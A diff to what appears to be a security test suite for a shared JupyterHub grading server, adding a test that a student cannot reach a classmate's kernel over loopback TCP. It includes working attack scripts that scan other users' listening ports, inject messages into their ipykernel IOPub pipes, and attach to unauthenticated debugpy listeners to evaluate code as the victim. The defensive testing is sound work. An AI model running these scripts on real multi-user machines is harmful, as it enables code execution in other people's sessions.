@@ -55,8 +55,12 @@ collect leaves out. And an eighth's: her `codeop.py` and nbconvert template in t
 the instructor converts her notebook to HTML in her terminal and from JupyterLab. And a
 ninth's: a grade id of escape sequences in her notebook, which nbgrader's autograde writes into
 its log (the instructor's terminal, the formgrader's answer), and her outputs in the autograded
-notebooks, which must open untrusted in the instructor's JupyterLab. Every
-server has a host of its own under DOMAIN, which
+notebooks, which must open untrusted in the instructor's JupyterLab. And a tenth's: her
+server's standard streams, which were the hub's (what the administrator types in the hub's
+terminal, her bytes in it, a flood of lines), a message pushed into the output of alice's
+running cell through ipykernel's IOPub pipe, alice's debugger attached to once alice has turned
+it on and off, and `nbgrader autograde` in a terminal that does not name the instructor's
+configuration. Every server has a host of its own under DOMAIN, which
 this process and the browser resolve to the loopback. The hub's log must flag what one machine
 does not bound (memory, disk, the shared ports and file table), and cookies over plain http.
 """
@@ -234,6 +238,122 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         pass
 print(json.dumps({"uids": sorted(set(seen.values())), "count": len(seen)}))
 """
+# A tenth tester's (issue 39): what a kernel still listened on over loopback TCP, which every
+# user of the machine shares. She pushes a message to every listener of another user (ZeroMQ,
+# one socket each): ipykernel's IOPub pipe printed one without its 16 random bytes to the
+# kernel's stderr, which goes into the output of the cell running in alice's notebook ...
+PUSH_TO_EVERYONE = r"""
+import json, os, time, zmq
+me = os.getuid()
+ports = []
+for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+    for row in open(table).read().splitlines()[1:]:
+        fields = row.split()
+        if fields[3] == "0A" and int(fields[7]) != me and not table.endswith("6"):
+            ports.append(int(fields[1].rsplit(":", 1)[1], 16))
+context = zmq.Context()
+sockets = []
+for port in ports:
+    push = context.socket(zmq.PUSH)
+    push.linger = 0
+    push.connect(f"tcp://127.0.0.1:{port}")
+    sockets.append(push)
+time.sleep(1)
+sent = 0
+for push in sockets:
+    try:
+        push.send_multipart([b"x" * 16, b"MALLORY-IN-YOUR-NOTEBOOK"], zmq.NOBLOCK)
+        sent += 1
+    except zmq.Again:
+        pass
+time.sleep(2)
+context.destroy(linger=0)
+print(json.dumps({"listeners": len(ports), "sent": sent}))
+"""
+# ... and debugpy, once alice had turned JupyterLab's debugger on (and off), listened for a
+# debug client without any credential: she attaches as that client and evaluates code that
+# leaves a mark in the home of whoever runs it.
+DEBUG_MARK = "debugged-by-mallory"
+ATTACH_TO_EVERYONE = r"""
+import json, os, re, socket, time
+me = os.getuid()
+ports = []
+for row in open("/proc/net/tcp").read().splitlines()[1:]:
+    fields = row.split()
+    if fields[3] == "0A" and int(fields[7]) != me:
+        ports.append(int(fields[1].rsplit(":", 1)[1], 16))
+def send(sock, seq, command, arguments=None):
+    body = json.dumps({"seq": seq, "type": "request", "command": command,
+                       "arguments": arguments or {}}).encode()
+    sock.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)
+def receive(sock, buffer, seconds):
+    found, end = [], time.monotonic() + seconds
+    while time.monotonic() < end:
+        head = re.match(rb"Content-Length: (\d+)\r\n\r\n", buffer[0])
+        if head and len(buffer[0]) >= head.end() + int(head[1]):
+            found.append(json.loads(buffer[0][head.end() : head.end() + int(head[1])]))
+            buffer[0] = buffer[0][head.end() + int(head[1]) :]
+            continue
+        sock.settimeout(max(end - time.monotonic(), 0.01))
+        try:
+            chunk = sock.recv(65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        buffer[0] += chunk
+    return found
+def answered(found, command):
+    return [m for m in found if m.get("type") == "response" and m.get("command") == command]
+code = "__import__('pathlib').Path.home().joinpath(MARK).write_text('ran')"
+result = {"listeners": len(ports), "debug clients": 0, "attached": 0, "evaluated": 0}
+for port in ports:
+    try:
+        sock = socket.create_connection(("127.0.0.1", port), timeout=2)
+        buffer = [b""]
+        send(sock, 1, "initialize", {"adapterID": "python", "clientID": "mallory"})
+        if not any(m.get("success") for m in answered(receive(sock, buffer, 2), "initialize")):
+            continue
+        result["debug clients"] += 1
+        send(sock, 2, "attach", {"justMyCode": False})
+        receive(sock, buffer, 3)
+        send(sock, 3, "configurationDone")
+        found = receive(sock, buffer, 3)
+        if not any(m.get("success") for m in answered(found, "attach")):
+            continue
+        result["attached"] += 1
+        send(sock, 4, "threads")
+        threads = [t["id"] for m in answered(receive(sock, buffer, 3), "threads")
+                   for t in m.get("body", {}).get("threads", [])]
+        for n, thread in enumerate(threads):
+            send(sock, 10 + n, "pause", {"threadId": thread})
+        receive(sock, buffer, 3)
+        seq = 100
+        for thread in threads:
+            seq += 1
+            send(sock, seq, "stackTrace", {"threadId": thread})
+            for reply in answered(receive(sock, buffer, 3), "stackTrace"):
+                for frame in (reply.get("body") or {}).get("stackFrames", [])[:2]:
+                    seq += 1
+                    send(sock, seq, "evaluate",
+                         {"expression": code, "frameId": frame["id"], "context": "repl"})
+                    replies = answered(receive(sock, buffer, 3), "evaluate")
+                    result["evaluated"] += any(m.get("success") for m in replies)
+        for n, thread in enumerate(threads):  # and lets the kernel run on
+            send(sock, seq + 1 + n, "continue", {"threadId": thread})
+        send(sock, seq + 1 + len(threads), "disconnect", {"terminateDebuggee": False})
+        receive(sock, buffer, 2)
+    except OSError:
+        pass
+print(json.dumps(result))
+""".replace("MARK", repr(DEBUG_MARK))
+# alice's cell while the message arrives, and a child of hers printing through the IOPub pipe
+ALICE_WAITS = "import time\nprint('ALICE-WAITS', flush=True)\ntime.sleep(8)"
+ALICE_FORKS = (
+    "import multiprocessing\n"
+    "child = multiprocessing.get_context('fork').Process(target=print, args=('ALICE-CHILD',))\n"
+    "child.start()\nchild.join(30)\nprint('exit', child.exitcode)"
+)
 # A tenth tester's (issue 39): her server's standard streams are the hub's, inherited (the hub
 # runs in an administrator's terminal, as JUPYTERHUB.md's install starts it, or under a service
 # manager that logs them). Her kernel takes copies of her server's descriptors 0, 1 and 2
@@ -1267,42 +1387,73 @@ class Hub:
     def start_kernel(self, user):
         return self.call("POST", f"/user/{user}/api/kernels", json={"name": "python3"}).json()["id"]
 
-    def execute(self, user, kernel, code, timeout=120):
+    def execute(self, user, kernel, code, timeout=120, streams=False):
         """Run `code` in `user`'s kernel through their server's kernel websocket, as a notebook
-        does; what it printed (stdout), or AssertionError with its traceback."""
-        return asyncio.run(self._execute(user, kernel, code, timeout))
+        does; what it printed (stdout; with `streams`, {"stdout", "stderr"}), or AssertionError
+        with its traceback."""
+        return asyncio.run(self._execute(user, kernel, code, timeout, streams))
 
-    async def _execute(self, user, kernel, code, timeout):
+    def kernel_message(self, user, kernel, channel, msg_type, content, timeout=60):
+        """Send one message of `msg_type` on `channel` of `user`'s kernel, as JupyterLab does
+        through the websocket; the kernel's reply (the message)."""
+        return asyncio.run(self._kernel_message(user, kernel, channel, msg_type, content, timeout))
+
+    async def _connect_kernel(self, user, kernel):
         url = self.url_of(f"/user/{user}/api/kernels/{kernel}/channels").replace("http", "ws", 1)
         request = HTTPRequest(url, headers={"Authorization": f"token {TOKEN}"})
-        socket_ = await asyncio.wait_for(websocket_connect(request), 60)
-        msg_id, out, error, replied, idle = uuid.uuid4().hex, [], None, False, False
-        socket_.write_message(
-            json.dumps(
-                {
-                    "header": {
-                        "msg_id": msg_id,
-                        "msg_type": "execute_request",
-                        "username": "test",
-                        "session": uuid.uuid4().hex,
-                        "version": "5.3",
-                        "date": datetime.now(UTC).isoformat(),
-                    },
-                    "parent_header": {},
-                    "metadata": {},
-                    "content": {
-                        "code": code,
-                        "silent": False,
-                        "store_history": False,
-                        "user_expressions": {},
-                        "allow_stdin": False,
-                        "stop_on_error": True,
-                    },
-                    "channel": "shell",
-                    "buffers": [],
-                }
-            )
+        return await asyncio.wait_for(websocket_connect(request), 60)
+
+    @staticmethod
+    def _message(channel, msg_type, content):
+        msg_id = uuid.uuid4().hex
+        header = {
+            "msg_id": msg_id,
+            "msg_type": msg_type,
+            "username": "test",
+            "session": uuid.uuid4().hex,
+            "version": "5.3",
+            "date": datetime.now(UTC).isoformat(),
+        }
+        message = {"header": header, "parent_header": {}, "metadata": {}, "content": content}
+        return msg_id, json.dumps({**message, "channel": channel, "buffers": []})
+
+    async def _kernel_message(self, user, kernel, channel, msg_type, content, timeout):
+        socket_ = await self._connect_kernel(user, kernel)
+        msg_id, message = self._message(channel, msg_type, content)
+        socket_.write_message(message)
+        reply_type = msg_type.replace("_request", "_reply")
+        deadline = time.monotonic() + timeout
+        try:
+            while True:
+                left = deadline - time.monotonic()
+                assert left > 0, f"{user}'s kernel: no {reply_type} after {timeout} s"
+                raw = await asyncio.wait_for(socket_.read_message(), left)
+                assert raw is not None, f"{user}'s kernel websocket closed"
+                reply = json.loads(raw)
+                if (
+                    reply.get("parent_header", {}).get("msg_id") == msg_id
+                    and reply["msg_type"] == reply_type
+                ):
+                    return reply
+        finally:
+            socket_.close()
+
+    async def _execute(self, user, kernel, code, timeout, streams=False):
+        socket_ = await self._connect_kernel(user, kernel)
+        msg_id, message = self._message(
+            "shell",
+            "execute_request",
+            {
+                "code": code,
+                "silent": False,
+                "store_history": False,
+                "user_expressions": {},
+                "allow_stdin": False,
+                "stop_on_error": True,
+            },
         )
+        out, errors, error, replied, idle = [], [], None, False, False
+        socket_.write_message(message)
         deadline = time.monotonic() + timeout
         try:
             while not (replied and idle):
@@ -1316,6 +1467,8 @@ class Hub:
                 kind, content = message["msg_type"], message["content"]
                 if kind == "stream" and content["name"] == "stdout":
                     out.append(content["text"])
+                elif kind == "stream":
+                    errors.append(content["text"])
                 elif kind == "error":
                     error = "\n".join(content["traceback"])
                 elif kind == "execute_reply":
@@ -1325,6 +1478,8 @@ class Hub:
         finally:
             socket_.close()
         assert error is None, f"{user}'s kernel: {error}"
+        if streams:
+            return {"stdout": "".join(out), "stderr": "".join(errors)}
         return "".join(out)
 
 
@@ -2224,6 +2379,46 @@ def played(hub, machine):
     listener.join(120)
     out["eavesdropping"] = heard
     out["alice's kernel"] = attack(KERNEL_TRANSPORT, "lm10-alice")
+    # 8b'. What her kernel reaches of alice's over loopback TCP: alice's kernel's IOPub pipe
+    # (her message, while alice's cell runs; alice's own child printing through the pipe) and
+    # alice's debugger, which alice turns on and off as JupyterLab does.
+    out["alice's child"] = hub.execute(
+        "lm10-alice", kernel["lm10-alice"], ALICE_FORKS, streams=True
+    )
+    out["alice's kernel info"] = hub.kernel_message(
+        "lm10-alice", kernel["lm10-alice"], "shell", "kernel_info_request", {}
+    )["content"]
+    waiting = {}
+    cell = threading.Thread(
+        target=lambda: waiting.update(
+            hub.execute("lm10-alice", kernel["lm10-alice"], ALICE_WAITS, streams=True)
+        )
+    )
+    cell.start()
+    time.sleep(2)
+    out["her push"] = attack(PUSH_TO_EVERYONE)
+    cell.join(120)
+    out["alice's cell while she pushed"] = waiting
+    out["alice's debugger"] = [
+        hub.kernel_message(
+            "lm10-alice",
+            kernel["lm10-alice"],
+            "control",
+            "debug_request",
+            {"type": "request", "seq": n, "command": command, "arguments": arguments},
+        )["content"]
+        for n, (command, arguments) in enumerate(
+            [
+                ("initialize", {"clientID": "jupyterlab", "adapterID": "python"}),
+                ("attach", {}),
+                ("disconnect", {"restart": False, "terminateDebuggee": False}),
+            ],
+            start=1,
+        )
+    ]
+    tried = hub.execute(ATTACKER, kernel[ATTACKER], ATTACH_TO_EVERYONE, timeout=300)
+    out["her debug clients"] = json.loads(tried.strip().splitlines()[-1])
+    out["debugged"] = (home["lm10-alice"] / DEBUG_MARK).exists()
     # 8c. torch.compile's cache and shared temporary folders: she plants alice's default
     # inductor cache folder (and the same under /var/tmp and /dev/shm); alice's kernel looks.
     out["planted"] = attack(PLANT)
@@ -2915,6 +3110,37 @@ def test_no_student_floods_the_hubs_log_through_her_server(played):
     assert len(flood["answers"]) >= FLOOD_SECONDS and max(flood["answers"]) < 5, flood["answers"]
 
 
+def test_no_one_reaches_a_classmates_kernel_over_the_loopback(played):
+    """A tenth tester's (issue 39): ipykernel listened on loopback TCP twice whatever the
+    kernel's transport. Its IOPub pipe printed a classmate's message into the output of the
+    cell running in alice's notebook; and once alice had turned JupyterLab's debugger on and off,
+    debugpy took any user's process as its debug client: mallory evaluated code in alice's
+    kernel, as alice. The hub's kernel (grading/hub/kernel.py) has its pipe on ipc in the
+    server's private /tmp and no debugger."""
+    seen = {
+        what: played[what]
+        for what in (
+            "alice's kernel info",
+            "her push",
+            "alice's cell while she pushed",
+            "alice's child",
+            "alice's debugger",
+            "her debug clients",
+            "debugged",
+        )
+    }
+    shown = json.dumps(seen, default=str)  # whole, where an assertion fails
+    assert "debugger" not in seen["alice's kernel info"]["supported_features"], shown
+    assert seen["her push"]["sent"] >= 1, shown  # she reached some listener
+    while_pushed = seen["alice's cell while she pushed"]
+    assert "ALICE-WAITS" in while_pushed["stdout"], shown  # the cell ran meanwhile
+    assert "MALLORY" not in json.dumps(while_pushed), shown
+    assert "ALICE-CHILD" in seen["alice's child"]["stdout"], shown  # the pipe still works
+    assert seen["her debug clients"]["attached"] == 0, shown
+    assert seen["her debug clients"]["evaluated"] == 0, shown
+    assert seen["debugged"] is False, shown
+
+
 def test_no_student_makes_a_user_namespace(played):
     # refused by the sandbox (ENOSPC: bubblewrap's --disable-userns sets her namespace's limit
     # to none)
@@ -2929,17 +3155,17 @@ def test_no_one_listens_to_anothers_kernel(played):
     heard = played["eavesdropping"]
     assert heard["listeners"] >= 2, heard  # she found listeners (the hub, the servers)...
     assert heard["heard"] == [], heard  # ...and none of them told her alice's cells
-    # alice's running kernel added one TCP listener to her server's (behind the hub's login):
-    # ipykernel's PULL socket for forked children's output (iostream.IOPubThread, bound to
-    # tcp://127.0.0.1 whatever the transport; it sends nothing and drops every message without
-    # its 16 random bytes). On TCP her kernel would add its five channels as well.
-    # Her server's own port is the hub's socket (uid 0), handed to her server: before her
-    # kernel, her uid listens nowhere.
+    # alice's running kernel adds no TCP listener: its five channels are on ipc, and so is
+    # ipykernel's PULL socket for forked children's output (iostream.IOPubThread, which
+    # ipykernel binds to tcp://127.0.0.1 whatever the transport: the course's kernel,
+    # grading/hub/kernel.py, binds it in the server's private /tmp; a tenth tester's attack,
+    # test_no_one_reaches_a_classmates_kernel_over_the_loopback). Her server's own port is the
+    # hub's socket (uid 0), handed to her server: her uid listens nowhere.
     assert played["alice's server port's listeners"] == [0], played[
         "alice's server port's listeners"
     ]
     before, during = played["alice's listeners before her kernel"], played["alice's listeners"]
-    assert before == [] and len(during) <= 1, (before, during)
+    assert before == [] and during == [], (before, during)
 
 
 def test_no_one_plants_a_cache_or_temporary_file_for_another(played):
